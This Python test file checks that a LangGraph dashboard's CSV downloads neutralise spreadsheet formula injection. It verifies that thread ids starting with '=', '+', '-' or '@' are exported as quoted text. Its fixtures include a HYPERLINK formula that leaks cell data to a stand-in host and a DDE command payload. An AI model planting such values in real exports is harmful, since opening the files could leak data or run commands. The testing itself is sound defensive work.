"""Issue 43, finding 5: no CSV the dashboard offers opens a formula. A thread id chosen by an agent or an API caller,
`=HYPERLINK("http://evil.example/?leak="&B2,"open")`, written by a real saver and listed by a real pruning sweep, is
text in the Sweeps page's "pruned threads" download; and every CSV export goes through core.csv_export.to_csv."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import TypedDict

import pandas as pd
from langgraph.checkpoint.postgres import PostgresSaver
from langgraph.graph import END, START, StateGraph

from core import csv_export
from core.operations import sweep, sweep_reads
from core.storage import prune

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"open")'


class Count(TypedDict):
    n: int


def _counter(saver: PostgresSaver):
    graph = StateGraph(Count)
    graph.add_node("add", lambda state: {"n": state["n"] + 1})
    graph.add_edge(START, "add")
    graph.add_edge("add", END)
    return graph.compile(checkpointer=saver)


def test_the_pruned_threads_csv_opens_a_formula_thread_id_as_text(db):
    graph = _counter(PostgresSaver(db.pool))
    for thread in (FORMULA, "+cmd|' /C calc'!A0", "hilo-normal"):
        for _ in range(3):
            graph.invoke({"n": 0}, {"configurable": {"thread_id": thread}})
    result = sweep.run_sweep(db, trigger="manual", prune=prune.PrunePolicy(keep_latest=1))
    assert result.status == "ok", result.error
    pruned = sweep_reads.run_details(db, result.run_id)["pruned"]
    assert FORMULA in set(pruned["thread_id"])
    rows = list(csv.reader(io.StringIO(csv_export.to_csv(pruned).decode(), newline="")))
    assert rows[0] == ["thread_id", "checkpoints", "writes", "blobs", "bytes"]
    cells = {row[0] for row in rows[1:]}
    assert cells == {"'" + FORMULA, "'+cmd|' /C calc'!A0", "hilo-normal"}
    assert all(not cell.startswith(csv_export.FORMULA_STARTS) for row in rows for cell in row)


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers():
    frame = pd.DataFrame({"@id": ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "ok", None], "n": [-1, 2] * 4})
    rows = list(csv.reader(io.StringIO(csv_export.to_csv(frame).decode(), newline="")))
    assert rows[0] == ["'@id", "n"]
    assert [r[0] for r in rows[1:]] == ["'=1+2", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", "ok", ""]
    assert [r[1] for r in rows[1:]] == ["-1", "2"] * 4


def test_every_csv_export_of_the_app_goes_through_the_helper():
    """No page, view or core module writes a CSV itself: a download's CSV comes from core.csv_export.to_csv."""
    offenders = []
    for folder in ("app_pages", "ui", "core"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path == ROOT / "core" / "csv_export.py":
                continue
            text = path.read_text()
            if re.search(r"(?<!csv_export)\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
                offenders.append(str(path.relative_to(ROOT)))
            if "text/csv" in text and "csv_export.to_csv(" not in text:
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
